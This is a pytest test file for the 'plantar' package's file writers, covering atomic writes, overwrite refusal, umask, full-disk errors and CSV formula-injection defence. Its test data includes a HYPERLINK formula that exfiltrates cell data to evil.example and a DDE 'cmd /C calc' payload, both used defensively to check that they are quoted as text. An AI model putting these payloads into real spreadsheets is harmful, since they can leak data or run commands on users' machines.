"""Every file plantar writes: whole or nothing, never over a file unless asked, the user's umask,
a full disk said in one line, and no CSV cell a spreadsheet would run as a formula."""

import csv
import errno
import io
import os
import shutil
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import xarray as xr

import plantar
import plantar.utils._files as files
from plantar import calibration
from plantar.report import Report, write_report
from plantar.utils._files import DiskFullError, check_output, csv_text, output_files, write_csv, write_text

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]


def _small_trial(**attrs):
    data = np.zeros((30, 12, 10), np.float32)
    data[5:25, 2:9, 3:8] = np.linspace(1.0, 300.0, 20 * 7 * 5, dtype=np.float32).reshape(20, 7, 5)
    return plantar.make_trial(data, pitch_mm=5.0, rate_hz=100.0, **attrs)


def _calibration():
    rest = plantar.make_counts(np.full((100, 4, 4), 3, np.uint16), pitch_mm=10.0, rate_hz=50.0)
    return calibration.tare(rest)


def _report():
    report = Report()
    report.add_note("one note")
    return report


#: Each way plantar writes a file: (name, function(path, overwrite) writing it, its files' suffixes).
WRITERS = {
    "trial": (lambda p, overwrite=False: plantar.save(_small_trial(), p, overwrite=overwrite), ".nc"),
    "calibration": (lambda p, overwrite=False: calibration.save(_calibration(), p, overwrite=overwrite), ".nc"),
    "csv": (lambda p, overwrite=False: write_csv(pd.DataFrame({"a": [1.0]}), p, overwrite=overwrite), ".csv"),
    "report": (lambda p, overwrite=False: _report().save(p, overwrite=overwrite), ".html"),
}


def _names(folder):
    return sorted(p.name for p in Path(folder).iterdir())


def _outputs(path):
    """The files a writer makes for ``path`` (a report makes three)."""
    if path.suffix == ".html":
        return [path, path.with_suffix(".csv"), path.with_suffix(".json")]
    return [path]


# --------------------------------------------------------------------------------------
# never over an existing file; two writers: exactly one wins


@pytest.mark.parametrize("kind", list(WRITERS))
def test_existing_file_is_never_replaced_unless_asked(tmp_path, kind):
    write, suffix = WRITERS[kind]
    path = tmp_path / f"out{suffix}"
    write(path)
    before = {p: p.read_bytes() for p in _outputs(path)}
    with pytest.raises(FileExistsError, match="exists"):
        write(path)
    assert {p: p.read_bytes() for p in _outputs(path)} == before
    assert not any(name.startswith(".") for name in _names(tmp_path))
    write(path, overwrite=True)
    assert _names(tmp_path) == sorted(p.name for p in _outputs(path))


@pytest.mark.parametrize("kind", list(WRITERS))
def test_a_file_appearing_while_writing_is_not_replaced(tmp_path, monkeypatch, kind):
    """The up-front check passes, then another program creates the file: the write is refused."""
    write, suffix = WRITERS[kind]
    path = tmp_path / f"out{suffix}"
    original = files._sync

    def meanwhile(tmp):
        path.write_bytes(b"another program's file")
        return original(tmp)

    monkeypatch.setattr(files, "_sync", meanwhile)
    with pytest.raises(FileExistsError):
        write(path)
    assert path.read_bytes() == b"another program's file"
    assert _names(tmp_path) == [path.name]  # no temporary file, no other file of a report


def test_racing_writers_exactly_one_wins(tmp_path):
    """Threads writing one name at the same moment: exactly one succeeds, its content is whole."""
    for round_ in range(20):
        path = tmp_path / f"race{round_}.txt"
        barrier = threading.Barrier(4)
        results = [None] * 4

        def writer(k):
            barrier.wait()
            try:
                write_text(path, f"writer {k}\n" * 1000)
                results[k] = "ok"
            except FileExistsError:
                results[k] = "exists"

        threads = [threading.Thread(target=writer, args=(k,)) for k in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert results.count("ok") == 1, results
        winner = results.index("ok")
        assert path.read_text() == f"writer {winner}\n" * 1000
    assert not any(name.startswith(".") for name in _names(tmp_path))


def test_racing_report_saves_in_processes(tmp_path):
    """Two processes save a report to one name at once: one succeeds, the other is refused."""
    script = (
        "import sys, time\n"
        "from plantar.report import Report\n"
        "r = Report(); r.add_note(sys.argv[2])\n"
        "while time.time() < float(sys.argv[3]): pass\n"
        "try:\n    r.save(sys.argv[1]); print('ok')\n"
        "except FileExistsError:\n    print('exists')\n"
    )
    env = dict(os.environ, PYTHONPATH=str(Path(plantar.__file__).parent.parent))
    for round_ in range(3):
        path = tmp_path / f"r{round_}.html"
        start = time.time() + 4.0
        procs = [subprocess.Popen([sys.executable, "-c", script, str(path), f"writer {k}", str(start)],
                                  stdout=subprocess.PIPE, text=True, env=env) for k in range(2)]  # fmt: skip
        outs = sorted(p.communicate(timeout=120)[0].strip() for p in procs)
        assert outs == ["exists", "ok"], outs
        winner = "writer 0" if "writer 0" in path.read_text() else "writer 1"
        assert winner in path.with_suffix(".json").read_text()  # HTML and JSON from the same writer
        assert path.with_suffix(".csv").exists()
        assert sorted(p.name for p in tmp_path.iterdir() if p.stem == f"r{round_}") == [
            f"r{round_}.csv", f"r{round_}.html", f"r{round_}.json"]


# --------------------------------------------------------------------------------------
# a failure leaves nothing


def test_a_failure_while_writing_leaves_nothing(tmp_path):
    path = tmp_path / "a.csv"
    with pytest.raises(RuntimeError, match="boom"):
        with output_files(path, tmp_path / "b.csv") as (a, b):
            a.write_text("half")
            raise RuntimeError("boom")
    assert _names(tmp_path) == []


def test_a_refused_file_of_a_set_takes_back_the_others(tmp_path):
    (tmp_path / "b.csv").write_text("old")
    original = files.check_output
    calls = []

    def check_nothing_exists_yet(path, *, overwrite=False):  # b.csv "appears" after the check
        calls.append(path)
        return original(path, overwrite=True)

    files.check_output = check_nothing_exists_yet
    try:
        with pytest.raises(FileExistsError, match="b.csv"):
            with output_files(tmp_path / "a.csv", tmp_path / "b.csv") as (a, b):
                a.write_text("new a")
                b.write_text("new b")
    finally:
        files.check_output = original
    assert _names(tmp_path) == ["b.csv"] and (tmp_path / "b.csv").read_text() == "old"


@pytest.mark.parametrize("kind", list(WRITERS))
def test_disk_full_while_writing_is_one_line_and_leaves_nothing(tmp_path, monkeypatch, kind):
    write, suffix = WRITERS[kind]
    path = tmp_path / f"out{suffix}"

    def no_space(tmp):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(files, "_sync", no_space)
    with pytest.raises(DiskFullError) as info:
        write(path)
    message = str(info.value)
    assert message.startswith(f"disk full writing '{path}") and "\n" not in message
    assert _names(tmp_path) == []


def test_disk_full_before_writing_is_refused_up_front(tmp_path, monkeypatch):
    class Full:
        f_bavail, f_frsize = 10, 4096

    monkeypatch.setattr(files.os, "statvfs", lambda folder: Full())
    with pytest.raises(DiskFullError, match=r"disk full writing '.*big.bin': 100.0 kB needed, 41.0 kB free"):
        files.write_bytes(tmp_path / "big.bin", bytes(100_000))
    assert _names(tmp_path) == []


def _mount_tmpfs(folder, size):
    folder.mkdir()
    if os.geteuid() != 0 or shutil.which("mount") is None:
        pytest.skip("mounting a small tmpfs needs root")
    result = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(folder)], capture_output=True)
    if result.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs: {result.stderr.decode().strip()}")


@pytest.fixture
def tiny(tmp_path):
    """A real 1 MB file system, to fill."""
    folder = tmp_path / "tiny"
    _mount_tmpfs(folder, "1m")
    yield folder
    subprocess.run(["umount", str(folder)], check=True)


def _noise_trial():
    """A trial that compresses badly: 4 MB on disk."""
    rng = np.random.default_rng(0)
    return plantar.make_trial(rng.uniform(1.0, 500.0, (100, 100, 100)).astype(np.float32), pitch_mm=5.0, rate_hz=100.0)


def test_saving_to_a_full_disk(tiny, monkeypatch):
    """Refused up front from the free space; and if the disk fills while writing, the same."""
    trial = _noise_trial()
    with pytest.raises(DiskFullError, match="MB needed"):
        plantar.save(trial, tiny / "walk.nc")
    assert _names(tiny) == []
    monkeypatch.setattr(files, "_check_free_space", lambda *args: None)  # the disk fills while writing
    with pytest.raises(DiskFullError, match=r"^disk full writing '.*walk.nc': nothing was written$"):
        plantar.save(trial, tiny / "walk.nc")
    assert _names(tiny) == []
    plantar.save(_small_trial(), tiny / "small.nc")  # the space was given back
    xr.testing.assert_identical(plantar.read(tiny / "small.nc"), _small_trial())


def test_cli_convert_and_analyze_on_a_full_disk(tiny, tmp_path):
    big = tmp_path / "big.nc"
    plantar.save(_noise_trial(), big)
    result = subprocess.run([sys.executable, "-m", "plantar", "convert", big, "-o", tiny / "w.nc"],
                            capture_output=True, text=True, timeout=300)  # fmt: skip
    assert result.returncode == 1
    assert result.stderr.strip().splitlines()[-1].startswith(f"plantar: error: disk full writing '{tiny / 'w.nc'}'")
    assert len(result.stderr.strip().splitlines()) <= 2 and "Traceback" not in result.stderr
    walk = tmp_path / "walk.nc"
    plantar.save(plantar.synth.walk(seed=1, passes=2, mat_length_mm=1500)[0], walk)
    (tiny / "filler").write_bytes(bytes(os.statvfs(tiny).f_bavail * os.statvfs(tiny).f_frsize - 8192))
    result = subprocess.run([sys.executable, "-m", "plantar", "analyze", walk, "-o", tiny / "steps.csv"],
                            capture_output=True, text=True, timeout=300)  # fmt: skip
    assert result.returncode == 1
    assert f"plantar: error: disk full writing '{tiny / 'steps.csv'}'" in result.stderr
    assert _names(tiny) == ["filler"]


# --------------------------------------------------------------------------------------
# permissions follow the umask


@pytest.mark.parametrize("umask, mode", [(0o022, 0o644), (0o077, 0o600), (0o002, 0o664)])
@pytest.mark.parametrize("kind", list(WRITERS))
def test_outputs_follow_the_umask(tmp_path, kind, umask, mode):
    write, suffix = WRITERS[kind]
    path = tmp_path / f"out{suffix}"
    old = os.umask(umask)
    try:
        write(path)
        for output in _outputs(path):
            assert output.stat().st_mode & 0o777 == mode, output
        write(path, overwrite=True)
        for output in _outputs(path):
            assert output.stat().st_mode & 0o777 == mode, output
    finally:
        os.umask(old)


# --------------------------------------------------------------------------------------
# up-front checks


def test_check_output_names_what_is_wrong(tmp_path):
    with pytest.raises(FileNotFoundError, match="folder .* does not exist"):
        check_output(tmp_path / "no" / "x.csv")
    with pytest.raises(IsADirectoryError):
        check_output(tmp_path)
    (tmp_path / "x.csv").write_text("")
    with pytest.raises(FileExistsError):
        check_output(tmp_path / "x.csv")
    assert check_output(tmp_path / "x.csv", overwrite=True) == tmp_path / "x.csv"
    if os.geteuid() != 0:  # root may write anywhere
        locked = tmp_path / "locked"
        locked.mkdir(mode=0o500)
        with pytest.raises(PermissionError, match="not writable"):
            check_output(locked / "x.csv")


def test_write_report_refuses_an_existing_file_before_the_analysis(tmp_path, monkeypatch):
    (tmp_path / "r.json").write_text("keep")
    analysed = []
    monkeypatch.setattr(Report, "add_trial", lambda self, *a, **k: analysed.append(1))
    with pytest.raises(FileExistsError, match="r.json"):
        write_report([_small_trial()], tmp_path / "r.html")
    assert analysed == [] and _names(tmp_path) == ["r.json"]


# --------------------------------------------------------------------------------------
# CSV injection


def test_csv_text_cells_that_are_formulas_are_written_as_text():
    frame = pd.DataFrame({"label": HOSTILE + ["fine", "", "a=b"], "value": [-1.5, 2.0, -3.0, 4.0, -5.0, 6.0, -7.0, 0.0, 8.0]})
    rows = list(csv.reader(io.StringIO(csv_text(frame), newline="")))
    assert rows[0] == ["label", "value"]
    for row, label in zip(rows[1:], HOSTILE):
        assert row[0] == "'" + label
    assert [r[0] for r in rows[-3:]] == ["fine", "", "a=b"]
    back = pd.read_csv(io.StringIO(csv_text(frame)), keep_default_na=False)
    assert back["value"].dtype == np.float64
    np.testing.assert_array_equal(back["value"].to_numpy(), frame["value"].to_numpy())


def test_csv_text_quotes_every_repeat_of_a_formula_and_keeps_missing_cells_empty():
    # A long table repeats few values: each occurrence is quoted, in text and in mixed columns alike.
    labels = ["=1+1", None, "ok", "=1+1", "@x", np.nan, "ok"] * 3
    mixed = [1.5, "-x", "y", None, "-x", 2, "+"] * 3
    frame = pd.DataFrame({"label": labels, "text": pd.array(labels, dtype="string"), "mixed": mixed})
    rows = list(csv.reader(io.StringIO(csv_text(frame), newline="")))[1:]
    expected_label = ["'=1+1", "", "ok", "'=1+1", "'@x", "", "ok"] * 3
    assert [r[0] for r in rows] == expected_label
    assert [r[1] for r in rows] == expected_label
    assert [r[2] for r in rows] == ["1.5", "'-x", "y", "", "'-x", "2", "'+"] * 3


def test_csv_text_of_a_mixed_column_quotes_only_its_formula_texts():
    """Equal texts are tested once: cells of other types that equal each other (1, 1.0, True) keep their own form."""
    cells = ["=SUM(A1)", 1, "-x", 1.0, True, None, "=SUM(A1)", "ok", float("nan"), "-x"]
    rows = list(csv.reader(io.StringIO(csv_text(pd.DataFrame({"cell": cells})), newline="")))
    assert [r[0] for r in rows[1:]] == ["'=SUM(A1)", "1", "'-x", "1.0", "True", "", "'=SUM(A1)", "ok", "", "'-x"]


def test_report_csv_has_no_formula_cells(tmp_path):
    walks = []
    for seed, label in enumerate(HOSTILE[:2]):
        walk, _ = plantar.synth.walk(seed=seed + 1, passes=2, mat_length_mm=1500)
        walks.append(walk.assign_attrs(condition=label, subject="@me"))
    paths = write_report(walks, tmp_path / "r.html", animation=False, verbose="error")
    with open(paths["csv"], newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(tuple(files.FORMULA_PREFIXES)) and not _is_number(cell) for cell in cells)
    labels = {row[1] for row in rows[1:]}
    assert "'" + HOSTILE[0] in labels and "'" + HOSTILE[1] in labels
    # numbers stay numbers, negative ones too: the CSV holds the JSON's values
    table = pd.read_csv(paths["csv"])
    assert table["value"].dtype == np.float64 and (table["value"] < 0).any()
    import json

    values = [r["value"] for r in json.loads(paths["json"].read_text())["numbers"]]
    np.testing.assert_allclose(table["value"].to_numpy(float),
                               np.array([np.nan if v is None else v for v in values], float), rtol=1e-12)  # fmt: skip


def _is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_analyze_csv_keeps_numbers_and_neutralises_text(tmp_path, monkeypatch):
    """The tidy table of `plantar analyze -o`, with a region named like a formula."""
    from plantar import cli

    trial, _ = plantar.synth.walk(seed=2, passes=2, mat_length_mm=1500)
    plantar.save(trial, tmp_path / "walk.nc")
    real_to_table = cli.to_table

    def hostile_table(result):
        table = real_to_table(result)
        table.loc[0, "region"] = "=cmd|' /C calc'!A0"
        table.loc[1, "value"] = -12.5
        return table

    monkeypatch.setattr(cli, "to_table", hostile_table)
    assert cli.main(["-q", "analyze", str(tmp_path / "walk.nc"), "-o", str(tmp_path / "steps.csv")]) == 0
    with open(tmp_path / "steps.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[1][rows[0].index("region")] == "'=cmd|' /C calc'!A0"
    assert rows[2][rows[0].index("value")] == "-12.5"
    expected = hostile_table(plantar.analyze(trial))
    table = pd.read_csv(tmp_path / "steps.csv")
    assert table["value"].dtype == np.float64
    np.testing.assert_allclose(table["value"].to_numpy(float), expected["value"].to_numpy(float), rtol=1e-12)


# --------------------------------------------------------------------------------------
# the commands check their output before the work


def _plantar(*args):
    return subprocess.run([sys.executable, "-m", "plantar", *map(str, args)], capture_output=True, text=True, timeout=300)


def test_commands_refuse_an_unwritable_output_before_reading_or_analysing(tmp_path):
    walk = tmp_path / "walk.nc"
    plantar.save(_small_trial(), walk)
    (tmp_path / "taken.csv").write_text("keep")
    (tmp_path / "taken.nc").write_text("keep")
    cases = [
        (("analyze", walk, "-o", "/no/such/dir/x.csv"), "folder '/no/such/dir' does not exist"),
        (("analyze", walk, "-o", tmp_path / "taken.csv"), "exists"),
        (("convert", walk, "-o", tmp_path / "no" / "w.nc"), "does not exist"),
        (("convert", walk, "-o", tmp_path / "taken.nc"), "exists"),
        (("convert", walk, "-o", tmp_path / "w.txt"), ".nc"),
        (("report", walk, "-o", tmp_path / "r.txt"), ".html"),
    ]
    for args, phrase in cases:
        result = _plantar(*args)
        assert result.returncode == 1, (args, result.stderr)
        lines = result.stderr.strip().splitlines()
        assert lines == [lines[-1]] and lines[-1].startswith("plantar: error: ") and phrase in lines[-1], (args, lines)
    assert (tmp_path / "taken.csv").read_text() == "keep" and (tmp_path / "taken.nc").read_text() == "keep"
    assert sorted(_names(tmp_path)) == ["taken.csv", "taken.nc", "walk.nc"]


def test_report_command_refuses_an_existing_json_before_the_analysis(tmp_path):
    walk = tmp_path / "walk.nc"
    plantar.save(plantar.synth.walk(seed=1, passes=2, mat_length_mm=1500)[0], walk)
    (tmp_path / "r.json").write_text("keep")
    result = _plantar("report", walk, "-o", tmp_path / "r.html", "--no-animation")
    assert result.returncode == 1
    expected = f"plantar: error: '{tmp_path / 'r.json'}' exists; pass overwrite=True (--overwrite) to replace it"
    assert result.stderr.strip().splitlines() == [expected]
    assert _names(tmp_path) == ["r.json", "walk.nc"]
